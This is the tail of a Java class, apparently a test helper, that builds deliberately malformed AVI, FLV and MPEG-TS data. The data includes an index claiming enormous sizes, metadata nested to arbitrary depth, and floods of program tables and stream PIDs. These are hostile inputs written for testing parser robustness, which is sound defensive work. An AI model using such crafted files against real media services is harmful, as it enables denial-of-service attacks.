        int junk = find(avi, "JUNK", 0);
        ByteBuffer index = ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN);
        index.putShort((short) 4)
                .put((byte) 0)
                .put((byte) 0)
                .putInt(0x7fffffff)
                .put(utf8("00dc"))
                .put(new byte[12]);
        for (int i = 0; i < 2; i++) {
            index.putLong(junk).putInt(0x7fffffff).putInt(0x7fffffff);
        }
        return put(put(avi, junk, utf8("indx")), junk + 8, index.array());
    }

    private static byte[] nestedScript(int depth) {
        byte[] open = concat(new byte[] {3, 0, 1}, utf8("a"));
        return concat(new byte[] {2, 0, 10}, utf8("onMetaData"), repeat(open, depth));
    }

    private static byte[] scriptTag(byte[] data) {
        byte[] size = Arrays.copyOfRange(u32(data.length), 1, 4);
        return concat(new byte[] {18}, size, new byte[7], data, u32(data.length + 11));
    }

    /** A packet of a transport stream. */
    private static byte[] packet(int pid, byte[] payload) {
        byte[] packet = new byte[188];
        Arrays.fill(packet, (byte) 0xff);
        packet[0] = 0x47;
        packet[1] = (byte) (0x40 | pid >> 8);
        packet[2] = (byte) pid;
        packet[3] = 0x10;
        packet[4] = 0;
        System.arraycopy(payload, 0, packet, 5, payload.length);
        return packet;
    }

    /** Tables of programs, each another version with other programs. */
    private static byte[] tables(int count) {
        ByteArrayOutputStream tables = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            ByteBuffer section = ByteBuffer.allocate(3 + 5 + 4 * 40 + 4);
            section.put((byte) 0).putShort((short) (0xb000 | 5 + 4 * 40 + 4));
            section.putShort((short) i)
                    .put((byte) (0xc1 | i % 32 << 1))
                    .put((byte) 0)
                    .put((byte) 0);
            for (int program = 0; program < 40; program++) {
                section.putShort((short) (i * 40 + program))
                        .putShort((short) (0xe000 | (i * 40 + program) % 8000 + 32));
            }
            byte[] bytes = section.array();
            section.putInt(crc(-1, bytes, bytes.length - 4));
            tables.writeBytes(packet(0, bytes));
        }
        return tables.toByteArray();
    }

    private static int crc(int start, byte[] bytes, int length) {
        int crc = start;
        for (int i = 0; i < length; i++) {
            crc ^= bytes[i] << 24;
            for (int bit = 0; bit < 8; bit++) {
                crc = crc < 0 ? crc << 1 ^ 0x04c11db7 : crc << 1;
            }
        }
        return crc;
    }

    /** Starts of streams under all numbers that there are. */
    private static byte[] pids(byte[] ts) {
        ByteArrayOutputStream packets = new ByteArrayOutputStream();
        packets.writeBytes(ts);
        for (int pid = 32; pid < 0x1fff; pid++) {
            packets.writeBytes(packet(pid, new byte[] {0, 1, (byte) 0xe0, 0, 0, (byte) 0x80, 0, 0}));
        }
        return packets.toByteArray();
    }

    private static byte[] put(byte[] file, int at, byte[] value) {
        byte[] changed = file.clone();
        System.arraycopy(value, 0, changed, at, Math.min(value.length, changed.length - at));
        return changed;
    }

    private static byte[] rest(byte[] bytes, int from) {
        return Arrays.copyOfRange(bytes, Math.min(from, bytes.length), bytes.length);
    }

    private static byte[] repeat(byte[] bytes, int times) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (int i = 0; i < times; i++) {
            all.writeBytes(bytes);
        }
        return all.toByteArray();
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private static byte[] u32(int value) {
        return ByteBuffer.allocate(4).putInt(value).array();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
